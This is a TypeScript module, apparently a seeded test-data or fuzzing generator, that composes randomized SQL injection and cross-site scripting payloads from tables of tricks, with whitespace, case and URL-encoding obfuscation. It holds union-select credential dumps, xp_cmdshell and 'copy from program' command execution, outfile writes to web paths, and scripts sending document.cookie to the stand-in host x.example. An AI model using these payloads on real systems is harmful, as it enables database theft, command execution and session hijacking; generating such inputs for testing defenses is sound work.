import type { Random } from '../../contracts/seeded-random.ts';

/** Composes attacks from tricks: each part is picked alone, so that most of them stand together nowhere else. */

const TABLES = ['wp_users', 'wp_options', 'users', 'members', 'wp_wc_orders', 'information_schema.columns', 'sqlite_master', 'pg_shadow', 'dual', 'sys.objects', 'all_tables', '`wp_postmeta`', '[orders]'];
const COLUMNS = ['user_pass', 'login,pass', 'group_concat(meta_value)', '*', 'null,null', '1,2,3', 'count(*)', "concat_ws(':',id,email)", '@@version', 'version()', 'table_name', 'password', '(1),(2)', "'a','b'", 'cast(pw as char)', 'top 1 name', "string_agg(name,',')", 'banner', 'x.y'];

/** What ends the value that the query meant to hold. */
const SQL_ENDS = ["'", '"', "')", "'))", '")', ')', '))', '', '', '1', '-1', "x'", 'lamp"', '0)', "%'", '`', "1'", "admin'", "' ", "\\'"];
const SQL_TAILS = ['-- ', '-- -', '--+', '#', ';--', '/*', '', ';\0', '-- x'];

function condition(random: Random): string {
  const n = random.between(2, 9999);
  return random.pick([
    () => `${n}=${n}`, () => `'${n}'='${n}`, () => `"k"="k"`, () => `${n} like ${n}`, () => `${n}>${n - 1}`, () => `${n} between 1 and ${n + 5}`, () => `${n} in (${n})`, () => `not ${n}=${n + 1}`, () => `ascii(substr((select ${random.pick(COLUMNS)} from ${random.pick(TABLES)} limit 0,1),1,1))>${n % 128}`,
    () => `length(database())=${n % 9}`, () => `exists(select 1 from ${random.pick(TABLES)})`, () => `(select count(*) from ${random.pick(TABLES)})>0`, () => `user() like 'r%'`, () => `mid(version(),1,1)=5`, () => `sleep(${n % 9 + 1})`, () => `benchmark(${n}000,sha1(1))`, () => `if(${n}=${n},sleep(3),0)`, () => `(select 1 from pg_sleep(4))::text='1'`,
    () => `extractvalue(1,concat(0x5c,(select user())))`, () => `updatexml(${n},concat(0x7e,version()),1)`, () => `1=convert(int,(select top 1 name from sysobjects))`, () => `(case when (${n}=${n}) then 1 else 0 end)=1`, () => `'a'||'b'='ab'`, () => `char(65)=char(65)`, () => `email is not null`, () => `1 rlike (select 1)`, () => `${n}<=>${n}`, () => `true`, () => `'x' regexp 'x'`, () => `"a"<"b"`,
  ])();
}

function sqlCore(random: Random): string {
  const select = (): string => `select ${random.pick(COLUMNS)} from ${random.pick(TABLES)}`;
  return random.pick([
    () => ` ${random.pick(['or', 'and', 'xor', '||', '&&', 'or not', 'and not not'])} ${condition(random)}`, () => ` or ${condition(random)} or ''='`, () => ` having ${condition(random)}`, () => ` union ${random.pick(['', 'all ', 'distinct '])}${select()}`, () => ` union ${random.pick(['', 'all '])}select ${random.pick(['1,2,3', 'null,null,null', "'a',2", '@@datadir', '0x41,0x42', 'version(),user()'])}`, () => ` union(${select()})`,
    () => `;${random.pick([`drop table ${random.pick(TABLES)}`, `insert into ${random.pick(TABLES)} values(1,'a')`, `update ${random.pick(TABLES)} set pass='x' where id=1`, `delete from ${random.pick(TABLES)}`, "exec master..xp_cmdshell 'dir'", "waitfor delay '0:0:9'", 'select pg_sleep(5)', `declare @q varchar(99);set @q=0x41;exec(@q)`, "copy t from program 'id'", 'shutdown', 'create user eve identified by x', `alter table ${random.pick(TABLES)} add x int`, select()])}`,
    () => ` order by ${random.between(1, 60)}`, () => ` group by ${random.pick(['1', 'user_id', '1,2'])} having ${condition(random)}`, () => ` into outfile '/var/www/${random.digits(3)}.php'`, () => `-(${select()})`, () => `*(select 1 from(select sleep(${random.between(1, 9)}))a)`, () => `||(select ${random.pick(COLUMNS)} from ${random.pick(TABLES)})||`, () => ` procedure analyse(extractvalue(1,concat(0x3a,version())),1)`, () => ` limit 1 into dumpfile '/tmp/a'`, () => ` and row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from ${random.pick(TABLES)} group by x)`, () => ` rlike (select (case when (7=7) then 1 else 0x28 end))`, () => `||utl_http.request('http://x.example/'||(${select()}))||`, () => ` and 1=ctxsys.drithsx.sn(1,(select user from dual))`, () => ` and (select load_file(concat('//',(select user()),'.x.example/a')))`,
  ])();
}

const SPACES: readonly ((random: Random) => string)[] = [() => ' ', () => ' ', () => ' ', () => '/**/', () => '\t', () => '\n', () => '\u00a0', () => '\v', (random) => `/*${random.digits(4)}*/`, () => '  ', () => '+', (random) => `--${random.digits(3)}\n`, () => '/*!*/'];

function mixedCase(random: Random, text: string): string {
  return Array.from(text, (c) => (random.chance(0.5) ? c.toUpperCase() : c)).join('');
}

export function sqlAttack(random: Random): string {
  const core = sqlCore(random);
  const space = random.pick(SPACES);
  const spaced = random.chance(0.4) ? core.replaceAll(' ', () => space(random)) : core;
  const versioned = random.chance(0.06) ? spaced.replaceAll(/\b(union|select|from)\b/g, '/*!50000$1*/') : spaced;
  return `${random.pick(SQL_ENDS)}${random.chance(0.4) ? mixedCase(random, versioned) : versioned}${random.pick(SQL_TAILS)}`;
}

const EVENTS = ['onload', 'onerror', 'onfocus', 'onmouseover', 'ontoggle', 'onpointerrawupdate', 'onanimationend', 'onbeforetoggle', 'onscrollend', 'onwheel', 'onauxclick', 'oncontentvisibilityautostatechange', 'ontransitionrun', 'onbegin', 'onhashchange', 'onloadstart'];
const TAGS = ['img', 'svg', 'body', 'details', 'video', 'audio', 'input', 'x', 'math', 'marquee', 'select', 'a', 'custom-tag', 'object', 'style', 'form', 'animate', 'dialog', 'iframe', 'xss'];
const CODE = ['alert(1)', 'confirm`1`', 'prompt(document.domain)', "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", 'window.onerror=alert;throw 1', '[1].map(alert)', "fetch('//x.example/'+document.cookie)", "import('//x.example')", 'location=name', "Function('ale'+'rt(1)')()", '(alert)(1)', "self[/loc/.source+'ation']='//x.example'", "new Image().src='//x.example/?'+document.cookie", 'setTimeout`alert\\x281\\x29`', "document.body.innerHTML='x'", '$.getScript(`//x.example`)', "navigator.sendBeacon('//x.example',document.cookie)", "Reflect.apply(alert,null,[1])", 'a=alert,a(1)', 'String.fromCharCode(88)', 'location.href=`//x.example?${document.cookie}`', 'alert?.(1)', "parent['alert'](1)", 'throw onerror=eval,"=alert\\x281\\x29"'];
const GAPS = [' ', '/', '\t', '\n', '\f', '//', ' / ', '\r\n', ' x '];
const BREAKS = ['', '', '">', "'>", '</title>', '</textarea>', '-->', '</script>', '"/>', 'lamp', '`>', '</style>', '1"><b>', '</option></select>'];

function obfuscatedScheme(random: Random): string {
  return random.pick(['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', 'vbscript:', 'data:text/html,', 'data:text/html;base64,', ' javascript:']);
}

function vector(random: Random): string {
  const code = random.pick(CODE);
  const gap = random.pick(GAPS);
  const quote = random.pick(['', '"', "'", '']);
  // A value without quotes ends at white space or a greater-than sign.
  const value = quote === '' ? code.replaceAll(/[\s>]/g, '') : code.replaceAll(quote, quote === '"' ? '&quot;' : '&#39;');
  const handler = `${random.pick(EVENTS)}${random.pick(['=', ' = ', '\n='])}${quote}${value}${quote}`;
  return random.pick([
    () => `<script>${code}</script>`, () => `<script${gap}src=//x.example/a.js></script>`, () => `<script type="text/javascript">${code}`, () => `<svg><script>${code}</script>`, () => `<${random.pick(TAGS)}${gap}${handler}>`, () => `<${random.pick(TAGS)}${gap}${handler}>`, () => `<${random.pick(TAGS)}${gap}a=b${gap}${handler}`, () => `<img${gap}src=x${gap}${handler}>`, () => `<a${gap}href="${obfuscatedScheme(random)}${code.replaceAll('"', '&quot;')}">x</a>`, () => `<iframe${gap}src="${obfuscatedScheme(random)}${code.replaceAll('"', '&quot;')}">`,
    () => `<iframe srcdoc="&lt;img src=x onerror=${value}&gt;">`, () => `<form action="${obfuscatedScheme(random)}${value}"><button>x`, () => `<button${gap}formaction=${obfuscatedScheme(random).trim()}alert(1)>`, () => `<object data="${obfuscatedScheme(random)}alert(1)">`, () => `<embed src="${obfuscatedScheme(random)}alert(1)">`, () => `<meta http-equiv="refresh" content="0;url=javascript:${value}">`, () => `<base href="//x.example/">`, () => `<math><a xlink:href="javascript:${value}">x`, () => `<svg><animate${gap}attributeName=href values=javascript:${value} />`, () => `<link rel=stylesheet href=//x.example/a.css>`, () => `<div style="width:expression(${value.replaceAll('"', '')})">`,
  ])();
}

/** In an attribute or a script of the page, without a tag of its own. */
function breakout(random: Random): string {
  const code = random.pick(CODE);
  return random.pick([
    () => `" ${random.pick(EVENTS)}="${code.replaceAll('"', "'")}" x="`, () => `' ${random.pick(EVENTS)}='${code.replaceAll("'", '`')}`, () => `"/${random.pick(EVENTS)}=${code.replaceAll(/\s/g, '')}//`, () => `';${code}//`, () => `";${code};//`, () => `'-${code}-'`, () => `"+${code}+"`, () => `\\';${code}//`, () => `\${${code}}`, () => `${obfuscatedScheme(random).trim()}${code}`, () => `');${code};//`, () => `*/${code}/*`, () => `}${code};{`, () => `" autofocus ${random.pick(EVENTS)}=${code.replaceAll(/\s/g, '')} x="`,
  ])();
}

export function scriptAttack(random: Random): string {
  const plain = random.chance(0.7) ? `${random.pick(BREAKS)}${vector(random)}` : breakout(random);
  return random.chance(0.2) ? plain.replaceAll(/<\w+|on\w+(?=\s*=)/g, (name) => mixedCase(random, name)) : plain;
}

const ENCODINGS: readonly ((text: string) => string)[] = [
  encodeURIComponent, encodeURIComponent, encodeURIComponent, (text) => encodeURIComponent(text).replaceAll('%20', '+'), (text) => encodeURIComponent(encodeURIComponent(text)), (text) => Array.from(Buffer.from(text), (byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''), (text) => encodeURIComponent(text.replaceAll(/[<>'"]/g, (c) => `&#${c.charCodeAt(0)};`)), (text) => encodeURIComponent(text.replaceAll(/[<'"(]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`)),
];

/** The value as it stands in an address or a form. */
export function encodedAttack(random: Random, attack: string): string {
  return random.pick(ENCODINGS)(attack);
}
